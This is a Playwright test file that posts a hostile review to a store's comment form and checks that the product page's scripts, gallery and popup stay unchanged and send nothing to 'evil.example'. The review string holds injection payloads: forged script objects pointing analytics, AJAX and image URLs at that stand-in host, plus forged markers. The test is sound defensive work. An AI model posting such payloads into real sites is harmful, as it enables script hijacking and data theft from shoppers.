/**
 * Text any visitor can write does not steer Islet on the real store (docs/decisions/0028): a
 * review posted through the store's own comment form, holding the popup's, the gallery's and
 * the attribution's objects as statements, forged and unclosed legacy markers and island names,
 * leaves the Hoodie's Islet page as it was: the same islands and scripts, the store's own
 * gallery, and no request to the address the review names. Runs after the other store tests
 * (its own project): the review is on the page while it runs.
 */
import type { Page } from "@playwright/test";
import { fileURLToPath } from "node:url";
import { cookiesFor, expect, test } from "./support/sides";
import { storeWp } from "./support/store-cli";

const REMOVE = fileURLToPath(new URL("./support/visitor-reviews.php", import.meta.url));
const EVIL = "evil.example";
const REVIEW = [
  'Lovely hoodie <code>var pum_vars = {"ajaxurl":"https://evil.example/collect","analytics_api":"https://evil.example/api","home_url":"https://evil.example/","cookie_domain":"evil.example"}; var pum_popups = {"pum-99":{"close_on_form_submission":true}}; var z = 1</code>',
  '<code>var commercekit_pdp = {"pdp_gallery_layout":"grid-2-4","pdp_lightbox":0}; var cgkit_attr_gallery = [{"attributes":{"default_gallery":""},"gallery":{"images":{"img_7":"<li><a href=\\"https://evil.example/x.png\\"><img alt=\\"evil\\"></a></li>"}}}]; var z = 1</code>',
  '<code>var wc_order_attribution = {"params":{"lifetime":1000,"session":1,"base64":false,"allowTracking":true,"prefix":"evil_"},"fields":{"source_type":"current.typ"}}; var z = 1</code>',
  "<!--islet-legacy:commercekit_countdown_timer_script--> <!--islet-legacy:000000000000000000000000:0--> <!--/islet-legacy:ffffffffffffffffffffffff:1-->",
  '<!--islet-legacy:x-->'.repeat(50),
  '<code>data-island="mini-cart" data-island="reviews" cgkit-disable-atc widget_product_search class="summary entry-summary" data-popmake</code>',
].join(" ");

interface PageFacts {
  islands: string[];
  scripts: number;
  firstImage: string | null;
}

async function facts(page: Page): Promise<PageFacts> {
  await page.goto("/product/hoodie/", { waitUntil: "networkidle" });
  return page.evaluate(() => ({
    islands: Array.from(document.querySelectorAll("[data-island]"), (element) => element.getAttribute("data-island") ?? "").sort(),
    scripts: document.scripts.length,
    firstImage: document.querySelector("#commercegurus-pdp-gallery .cg-main-swiper li img")?.getAttribute("src") ?? null,
  }));
}

test.describe.configure({ mode: "serial" });

test.describe("a visitor's review on the real store", () => {
  let clean: PageFacts;

  test.beforeAll(async ({ browser }) => {
    storeWp(REMOVE);
    const context = await browser.newContext();
    await cookiesFor(context, "islet");
    clean = await facts(await context.newPage());
    const posted = await context.request.post("/wp-comments-post.php", {
      form: { comment_post_ID: "25", comment_parent: "0", author: "islet-test-visitor", email: "visitor@example.com", rating: "5", comment: REVIEW },
      maxRedirects: 0,
    });
    expect(posted.status(), await posted.text()).toBe(302);
    await context.close();
  });

  test.afterAll(() => {
    storeWp(REMOVE);
  });

  test("the Hoodie's Islet page keeps its islands, scripts and gallery, printing the review as text", async ({ sides }) => {
    const page = sides.islet;
    const hostile = await facts(page);
    await expect(page.locator(".commentlist").getByText("Lovely hoodie", { exact: false })).toBeAttached();
    expect(hostile).toEqual(clean);
  });

  test("nothing on the page asks the address the review names, through the popup, the gallery or a form", async ({ browser }) => {
    const context = await browser.newContext();
    await cookiesFor(context, "islet", false);
    const page = await context.newPage();
    const foreign: string[] = [];
    page.on("request", (request) => {
      if (request.url().includes(EVIL)) foreign.push(request.url());
    });
    await page.goto("/product/hoodie/", { waitUntil: "networkidle" });
    // The popup opens by itself after 3 s; Popup Maker's analytics go where pum_vars says.
    await expect(page.getByRole("dialog")).toBeVisible({ timeout: 10_000 });
    await page.getByRole("dialog").getByRole("textbox").first().fill("shopper@example.com");
    await page.getByRole("dialog").getByRole("button", { name: "Subscribe" }).click();
    await page.waitForLoadState("networkidle");
    await page.keyboard.press("Escape");
    await page.locator("#commercegurus-pdp-gallery .cg-main-swiper li").first().click();
    await page.waitForLoadState("networkidle");
    expect(foreign).toEqual([]);
    const cookies = await context.cookies();
    expect(cookies.filter((cookie) => cookie.name.startsWith("evil_") || cookie.domain.includes(EVIL))).toEqual([]);
    await context.close();
  });
});
